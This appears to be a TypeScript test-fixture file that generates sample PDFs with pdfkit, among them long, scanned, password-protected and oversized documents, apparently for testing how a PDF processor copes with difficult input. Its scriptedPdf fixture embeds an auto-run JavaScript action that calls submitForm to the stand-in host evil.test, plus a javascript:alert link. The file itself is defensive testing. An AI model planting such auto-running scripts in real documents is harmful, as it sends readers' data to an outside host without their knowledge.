import PdfWriter from 'pdfkit';

type Draw = (pdf: PDFKit.PDFDocument) => void;

/** Draws a PDF. */
async function draw(content: Draw, options: PDFKit.PDFDocumentOptions = {}): Promise<Buffer> {
  const pdf = new PdfWriter({ size: 'A4', ...options });
  const chunks: Buffer[] = [];
  const finished = new Promise<void>((resolve) => void pdf.on('end', resolve));
  pdf.on('data', (chunk: Buffer) => void chunks.push(chunk));
  content(pdf);
  pdf.end();
  await finished;
  return Buffer.concat(chunks);
}

/** Rules of a house over many pages. `Clubhouse` stands on each tenth page. */
export const longPdf = (pages: number): Promise<Buffer> =>
  draw((pdf) => {
    for (let number = 1; number <= pages; number += 1) {
      if (number > 1) pdf.addPage();
      pdf.fontSize(28).text(`Rule ${number}`);
      pdf.fontSize(12).text(number % 10 === 0 ? 'The Clubhouse closes at ten.' : 'Please keep the streets quiet.');
    }
  });

/** A picture on each page and no text, as a scanner writes it. */
export const scannedPdf = (picture: Buffer): Promise<Buffer> =>
  draw((pdf) => void pdf.image(picture, 0, 0, { width: 595 }), { margin: 0 });

/** A document that opens with a password only. */
export const protectedPdf = (userPassword: string): Promise<Buffer> =>
  draw((pdf) => void pdf.fontSize(28).text('Behind the password'), { userPassword, pdfVersion: '1.7' });

/** A document that asks its reader to run a script. */
export async function scriptedPdf(): Promise<Buffer> {
  const written = await draw((pdf) => {
    const script = Buffer.from('app.alert(1); this.submitForm("https://evil.test")');
    const action = pdf.ref({ Type: 'Action', S: 'JavaScript', JS: script });
    action.end('');
    (pdf as unknown as { _root: { data: Record<string, unknown> } })._root.data['OpenAction'] = action;
    pdf.fontSize(28).text('Only words', { link: 'javascript:alert(1)' });
  });
  if (!written.includes('/JavaScript')) throw new Error('The document has no script.');
  return written;
}

/** A document of a size, most of which no page uses. */
export async function largePdf(bytes: number): Promise<Buffer> {
  return draw((pdf) => {
    const filling = pdf.ref({});
    filling.compress = false;
    filling.write(Buffer.alloc(bytes, 'x'));
    filling.end('');
    pdf.fontSize(28).text('A large document');
  });
}
